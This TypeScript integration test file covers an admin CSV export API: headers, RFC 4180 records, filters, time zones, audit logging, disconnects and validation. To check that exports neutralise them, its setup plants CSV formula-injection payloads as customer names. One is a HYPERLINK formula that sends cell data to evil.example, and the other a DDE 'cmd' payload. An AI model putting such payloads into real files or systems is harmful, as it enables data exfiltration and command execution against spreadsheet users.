import http from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { ExportSource } from '../../src/modules/reports/application/export-source.port';
import { adminToken } from '../support/admin-session';
import { createTestApp, type TestApp } from '../support/app';
import { type CustomerSession, signUpCustomer } from '../support/customer-session';
import { buy, documentedColumns, staffRefund } from './support';

/**
 * GET /api/admin/export/orders.csv and /customers.csv over HTTP (docs/reports.md, "Exports"): the
 * headers of a download, UTF-8 with a byte order mark, RFC 4180 records, the columns, one row per
 * order or customer of the period and filter (counted independently by SQL, across batches and
 * equal timestamps), formula injection neutralised, refunds and fulfilment in the order's row, a
 * client that goes away stops the reading, bad input refused before any byte.
 * Real: the whole app (PGlite, or PostgreSQL with DATABASE_URL), the sandbox gateway and refunds.
 * Arranged by SQL: customers' hostile names, when things happened, 2,500 extra orders, 60,000 for
 * the disconnect. Spied on: ExportSource (to count the batches read).
 */
describe('CSV exports API', () => {
  let t: TestApp;
  let admin: string;
  let adminId: string;
  let ann: CustomerSession;
  let bob: CustomerSession;
  const db = () => t.app.get(DataSource);

  /** The raw bytes of a response (the BOM must be seen as bytes). */
  const download = (path: string, token: string | null = admin, tz?: string) => {
    let req = request(t.app.getHttpServer()).get(path);
    if (token) req = req.set('Authorization', `Bearer ${token}`);
    if (tz) req = req.set('X-Timezone', tz);
    return req.buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
  };

  /** RFC 4180, strictly: every record ends with CRLF, a quote inside a quoted cell is doubled. */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i += 1) {
      const c = text[i];
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 1;
        } else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') {
        row.push(cell);
        cell = '';
      } else if (c === '\r' && text[i + 1] === '\n') {
        row.push(cell);
        rows.push(row);
        row = [];
        cell = '';
        i += 1;
      } else if (c === '\n' || c === '\r') throw new Error(`a bare line break outside quotes at ${i}`);
      else cell += c;
    }
    if (cell !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
    return rows;
  }

  async function csv(path: string, tz?: string) {
    const res = await download(path, admin, tz).expect(200);
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
    return { res, header, rows, records: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
  }

  /** The header each file must have: the columns docs/reports.md#exports lists. */
  const ORDER_COLUMNS = documentedColumns('orders.csv');
  const CUSTOMER_COLUMNS = documentedColumns('customers.csv');

  let paid: { orderId: string; subscriptionId: string };
  let rupees: { orderId: string; subscriptionId: string };

  beforeAll(async () => {
    t = await createTestApp({ env: { SANDBOX_REFUND_SETTLE_MS: '20' } });
    ({ token: admin, adminId } = await adminToken(t));
    [ann, bob] = [await signUpCustomer(t, 'ann'), await signUpCustomer(t, 'bob')];
    await db().query(`UPDATE plans SET currency = 'INR' WHERE slug = 'instagram'`);
    // Names as a hostile customer might type them, and one with accents, quotes and a comma.
    await db().query(`UPDATE users SET name = '=HYPERLINK("http://evil.example/?"&A1,"Click")', created_at = '2026-02-01T10:00:00Z' WHERE user_id = $1`, [ann.userId]);
    await db().query(`UPDATE users SET name = 'Zoë "Jr" Ångström, Esq.', phone = '+91 98765 43210', created_at = '2026-02-02T10:00:00Z' WHERE user_id = $1`, [
      bob.userId,
    ]);
    paid = await buy(t, ann, 'youtube', 1);
    rupees = await buy(t, bob, 'instagram', 0);
    await buy(t, bob, 'tiktok', 2);
    await staffRefund(t, admin, paid.subscriptionId, '5.00');
    await db().query(
      `INSERT INTO fulfilments (subscription_id, fulfilment_state, upstream_service_id, upstream_quantity, fulfilment_queued_at, upstream_order_id, upstream_status,
         upstream_charge, upstream_currency)
       VALUES ($1, 'open', '7', 1000, now(), '-9001', '@In progress', '0.2784', 'USD')
       ON CONFLICT (subscription_id) DO UPDATE SET fulfilment_state = EXCLUDED.fulfilment_state, upstream_service_id = EXCLUDED.upstream_service_id, upstream_quantity = EXCLUDED.upstream_quantity, fulfilment_queued_at = EXCLUDED.fulfilment_queued_at, upstream_order_id = EXCLUDED.upstream_order_id, upstream_status = EXCLUDED.upstream_status, upstream_charge = EXCLUDED.upstream_charge, upstream_currency = EXCLUDED.upstream_currency`,
      [paid.subscriptionId],
    );
    await db().query(`UPDATE payment_orders SET customer_name = '+cmd|'' /C calc''!A0' WHERE order_id = $1`, [rupees.orderId]);
    // Orders made in the period by SQL, many with the very same instant (the keyset must not skip or repeat them).
    await db().query(
      `INSERT INTO payment_orders (order_id, user_id, email, customer_name, plan_id, plan_name, plan_slug, tier, amount, currency, profile_link, status, created_at, expires_at)
       SELECT 'order_bulk' || lpad(g::text, 5, '0'), $1, 'bulk@example.com', 'Bulk ' || g, gen_random_uuid(), 'YouTube', 'youtube',
              '{"name":"Starter","price":"9.99","currency":"USD"}', 999, 'USD', 'https://example.com/@bulk', CASE WHEN g % 5 = 0 THEN 'failed' ELSE 'created' END,
              timestamptz '2026-03-01T00:00:00Z' + (g / 7) * interval '1 second', timestamptz '2026-03-01T01:00:00Z' + (g / 7) * interval '1 second'
       FROM generate_series(1, 2500) g`,
      [ann.userId],
    );
  });

  afterAll(async () => {
    await t?.close();
  });

  it('downloads the period’s orders as a CSV file: headers, BOM, columns, one row per order', async () => {
    const { res, header, rows } = await csv('/api/admin/export/orders.csv?from=2026-01-01&to=2026-12-31');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="orders_2026-01-01_2026-12-31.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(header).toEqual(ORDER_COLUMNS);
    const [{ n }] = await db().query(`SELECT count(*)::int AS n FROM payment_orders WHERE created_at >= '2026-01-01T00:00:00Z' AND created_at < '2027-01-01T00:00:00Z'`);
    expect(n).toBeGreaterThan(2500);
    expect(rows).toHaveLength(n);
    expect(new Set(rows.map((r) => r[0])).size).toBe(n);
    expect(rows.every((r) => r.length === ORDER_COLUMNS.length)).toBe(true);
  });

  it('carries payment, refund and fulfilment columns, money as decimal text in the order’s currency', async () => {
    const { records } = await csv('/api/admin/export/orders.csv?from=2026-01-01&to=2026-12-31&status=paid');
    const [order] = await db().query(`SELECT amount, payment_id, paid_at, created_at FROM payment_orders WHERE order_id = $1`, [paid.orderId]);
    const row = records.find((r) => r.order_id === paid.orderId);
    expect(row).toEqual({
      order_id: paid.orderId,
      created_at: new Date(order.created_at).toISOString().slice(0, 19).replace('T', ' '),
      paid_at: new Date(order.paid_at).toISOString().slice(0, 19).replace('T', ' '),
      payment_status: 'paid',
      void_reason: '',
      failure_reason: '',
      customer_name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      customer_email: ann.email,
      user_id: ann.userId,
      platform: 'youtube',
      plan: 'YouTube',
      tier: 'Growth',
      currency: 'USD',
      amount: `${Math.floor(Number(order.amount) / 100)}.${String(Number(order.amount) % 100).padStart(2, '0')}`,
      refunded: '5.00',
      refund_pending: '0.00',
      refund_failed: '0.00',
      refunds: '1',
      last_refund_at: expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/),
      refund_request: '',
      payment_id: order.payment_id,
      subscription_id: paid.subscriptionId,
      order_status: 'In Process',
      fulfilment_state: 'open',
      upstream_order_id: `'-9001`,
      upstream_status: `'@In progress`,
      upstream_charge: '0.2784',
      upstream_currency: 'USD',
    });
    expect(records.every((r) => r.payment_status === 'paid')).toBe(true);
    expect(records.find((r) => r.order_id === rupees.orderId)).toMatchObject({ customer_name: `'+cmd|' /C calc'!A0`, currency: 'INR' });
  });

  it('writes times in the asked zone', async () => {
    const utc = (await csv('/api/admin/export/orders.csv?from=2026-03-01&to=2026-03-01&q=order_bulk00007')).records[0];
    const kolkata = (await csv('/api/admin/export/orders.csv?from=2026-03-01&to=2026-03-01&q=order_bulk00007', 'Asia/Kolkata')).records[0];
    expect(utc.created_at).toBe('2026-03-01 00:00:01');
    expect(kolkata.created_at).toBe('2026-03-01 05:30:01');
    // The period follows the zone too: 2026-03-01 in Kolkata ends at 18:30Z.
    const [{ n }] = await db().query(`SELECT count(*)::int AS n FROM payment_orders WHERE created_at >= '2026-02-28T18:30:00Z' AND created_at < '2026-03-01T18:30:00Z'`);
    expect((await csv('/api/admin/export/orders.csv?from=2026-03-01&to=2026-03-01&tz=Asia/Kolkata')).rows).toHaveLength(n);
  });

  it('filters by status, platform and a search, alone and together', async () => {
    const count = async (where: string, params: unknown[] = []) =>
      (await db().query(`SELECT count(*)::int AS n FROM payment_orders WHERE created_at >= '2026-01-01Z' AND created_at < '2027-01-01Z' AND ${where}`, params))[0]
        .n as number;
    const rows = async (query: string) => (await csv(`/api/admin/export/orders.csv?from=2026-01-01&to=2026-12-31&${query}`)).rows.length;
    expect(await rows('status=failed')).toBe(await count(`status = 'failed'`));
    expect(await rows('platform=instagram')).toBe(await count(`plan_slug = 'instagram'`));
    expect(await rows('platform=instagram')).toBe(1);
    expect(await rows(`q=${encodeURIComponent(bob.email.toUpperCase())}`)).toBe(await count('email = $1', [bob.email]));
    expect(await rows('q=bulk00&status=created&platform=youtube')).toBe(await count(`order_id LIKE 'order_bulk00%' AND status = 'created' AND plan_slug = 'youtube'`));
    expect(await rows('q=100%25')).toBe(0);
  });

  it('downloads the customers registered in the period, with their orders and money per currency', async () => {
    const { res, header, records } = await csv('/api/admin/export/customers.csv?from=2026-02-01&to=2026-02-28');
    expect(res.headers['content-disposition']).toBe('attachment; filename="customers_2026-02-01_2026-02-28.csv"');
    expect(header).toEqual(CUSTOMER_COLUMNS);
    expect(records.map((r) => r.email)).toEqual([ann.email, bob.email]);
    const paidByBob = await db().query(
      `SELECT currency, sum(amount)::int AS paid FROM payment_orders WHERE user_id = $1 AND status = 'paid' GROUP BY currency ORDER BY currency`,
      [bob.userId],
    );
    const bobRow = records[1];
    expect(bobRow).toMatchObject({
      name: 'Zoë "Jr" Ångström, Esq.',
      phone: `'+91 98765 43210`,
      orders: '2',
      paid_orders: '2',
      registered_at: '2026-02-02 10:00:00',
      refunded: '',
    });
    expect(bobRow.paid).toBe(paidByBob.map((p: { currency: string; paid: number }) => `${p.currency} ${(p.paid / 100).toFixed(2)}`).join('; '));
    expect(paidByBob.map((p: { currency: string }) => p.currency)).toEqual(['INR', 'USD']);
    expect(records[0]).toMatchObject({ name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, refunded: 'USD 5.00' });
    expect((await csv('/api/admin/export/customers.csv?from=2026-02-01&to=2026-02-28&platform=instagram')).records.map((r) => r.email)).toEqual([bob.email]);
    expect((await csv('/api/admin/export/customers.csv?from=2026-02-02&to=2026-02-28&q=zo%C3%AB')).records.map((r) => r.email)).toEqual([bob.email]);
  });

  /** The export entries of the audit log, newest first, as staff's screen reads them. */
  const exportEntries = async () =>
    (await request(t.app.getHttpServer()).post('/api/admin/audit').set('Authorization', `Bearer ${admin}`).send({ kind: 'export', limit: 100 }).expect(200)).body
      .data as Array<{ adminId: string; action: string; entity: string; entityId: string; after: Record<string, unknown> }>;

  it('leaves an audit entry for each download: the admin, which export, the period and filters as asked, the rows once all were sent', async () => {
    const before = (await exportEntries()).length;
    const orders = await csv('/api/admin/export/orders.csv?from=2026-01-01&to=2026-12-31&status=created&platform=youtube&q=%20bulk0%20', 'Asia/Kolkata');
    const customers = await csv('/api/admin/export/customers.csv?from=2026-02-01&to=2026-02-28');
    const entries = await exportEntries();
    expect(entries).toHaveLength(before + 2);
    expect(entries[0]).toMatchObject({
      adminId,
      action: 'export.customers',
      entity: 'export',
      entityId: 'customers_2026-02-01_2026-02-28.csv',
      after: { from: '2026-02-01', to: '2026-02-28', tz: 'UTC', outcome: 'complete', rows: customers.rows.length },
    });
    expect(customers.rows.length).toBe(2);
    expect(entries[1]).toMatchObject({
      adminId,
      action: 'export.orders',
      entityId: 'orders_2026-01-01_2026-12-31.csv',
      after: {
        from: '2026-01-01',
        to: '2026-12-31',
        tz: 'Asia/Kolkata',
        status: 'created',
        platform: 'youtube',
        q: 'bulk0',
        outcome: 'complete',
        rows: orders.rows.length,
      },
    });
    expect(orders.rows.length).toBeGreaterThan(1000);
    // A refused request exported nothing and records nothing.
    await download('/api/admin/export/orders.csv?from=2026-01-01').expect(400);
    expect(await exportEntries()).toHaveLength(before + 2);
  });

  it('says so when an export failed part way, and claims no row count', async () => {
    const source = t.app.get(ExportSource);
    const real = source.orders.bind(source);
    const batches = jest.spyOn(source, 'orders').mockImplementationOnce(real).mockRejectedValueOnce(new Error('connection lost'));
    try {
      await download('/api/admin/export/orders.csv?from=2026-01-01&to=2026-12-31').catch((error: Error) => error);
    } finally {
      batches.mockRestore();
    }
    const [entry] = await exportEntries();
    expect(entry).toMatchObject({ action: 'export.orders', entityId: 'orders_2026-01-01_2026-12-31.csv', after: { outcome: 'failed', rows: null } });
  });

  it('waits for a slow client, and stops reading when the client goes away', async () => {
    await db().query(
      `INSERT INTO payment_orders (order_id, user_id, email, plan_id, plan_name, plan_slug, tier, amount, currency, profile_link, created_at, expires_at)
       SELECT 'order_many' || lpad(g::text, 6, '0'), $1, 'many@example.com', gen_random_uuid(), 'YouTube', 'youtube', '{"name":"Pro"}', 4999, 'USD',
              'https://example.com/@many', timestamptz '2027-06-01T00:00:00Z' + g * interval '1 second', timestamptz '2027-06-02T00:00:00Z' + g * interval '1 second'
       FROM generate_series(1, 60000) g`,
      [ann.userId],
    );
    const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
    const source = t.app.get(ExportSource);
    const batches = jest.spyOn(source, 'orders');
    const server = http.createServer(t.app.getHttpAdapter().getInstance());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      let req: http.ClientRequest | undefined;
      const res = await new Promise<http.IncomingMessage>((resolve, reject) => {
        req = http.get(
          { port, host: '127.0.0.1', path: '/api/admin/export/orders.csv?from=2027-06-01&to=2027-06-30', headers: { Authorization: `Bearer ${admin}` } },
          resolve,
        );
        req.on('error', (error) => ((error as NodeJS.ErrnoException).code === 'ECONNRESET' ? undefined : reject(error)));
      });
      expect(res.statusCode).toBe(200);
      // The client reads nothing: once the socket's buffers are full the export waits instead of reading on.
      res.pause();
      let seen = -1;
      while (batches.mock.calls.length !== seen) {
        seen = batches.mock.calls.length;
        await sleep(1500);
      }
      // 60,000 rows are 61 batches; a waiting export has read what the socket's buffers hold (about 5 MB here).
      expect(seen).toBeGreaterThan(0);
      expect(seen).toBeLessThan(45);
      req?.destroy();
      await sleep(1000);
      expect(batches.mock.calls.length).toBe(seen);
      // The stopped export is in the audit log, without a row count: how much reached the client is not known.
      const [entry] = await exportEntries();
      expect(entry).toMatchObject({
        adminId,
        action: 'export.orders',
        entityId: 'orders_2027-06-01_2027-06-30.csv',
        after: { from: '2027-06-01', outcome: 'stopped', rows: null },
      });
    } finally {
      batches.mockRestore();
      await new Promise((resolve) => server.close(resolve));
    }
  }, 90_000);

  it.each([
    ['', 'from is required; to is required'],
    ['from=2026-01-01', 'to is required'],
    ['from=2026-01-01&to=2031-01-01', 'to must be less than 5 years after from (a period is at most 5 years)'],
    ['from=2026-13-01&to=2026-12-31', 'from must be a date such as 2026-01-31'],
    ['from=2026-01-01&to=2026-01-31&status=refunded', 'status must be one of created, paid, failed'],
    ['from=2026-01-01&to=2026-01-31&platform=You%20Tube', 'platform must be a platform such as youtube'],
    ['from=2026-01-01&to=2026-01-31&q=a&q=b', 'q must be text of at most 254 characters'],
    ['from=2026-01-01&to=2026-01-31&q=a%00b', 'q must not contain control characters'],
    ['from=2026-01-01&to=2026-01-31&tz=Europe%2FNowhere', expect.stringMatching(/^tz must be an IANA time zone/)],
    [`from=2026-01-01&to=2026-01-31&q=${'x'.repeat(255)}`, 'q must be text of at most 254 characters'],
  ])('refuses ?%s with a 400 naming the field, before any byte of CSV', async (query, message) => {
    for (const file of ['orders.csv', 'customers.csv']) {
      if (file === 'customers.csv' && query.includes('status=')) continue;
      const res = await request(t.app.getHttpServer()).get(`/api/admin/export/${file}?${query}`).set('Authorization', `Bearer ${admin}`).expect(400);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.body).toEqual({ success: false, message, error: 'invalid' });
    }
  });

  it('is for admins only: a customer gets 403, a visitor 401', async () => {
    for (const file of ['orders.csv', 'customers.csv']) {
      await download(`/api/admin/export/${file}?from=2026-01-01&to=2026-01-31`, ann.token).expect(403);
      await download(`/api/admin/export/${file}?from=2026-01-01&to=2026-01-31`, null).expect(401);
    }
  });
});
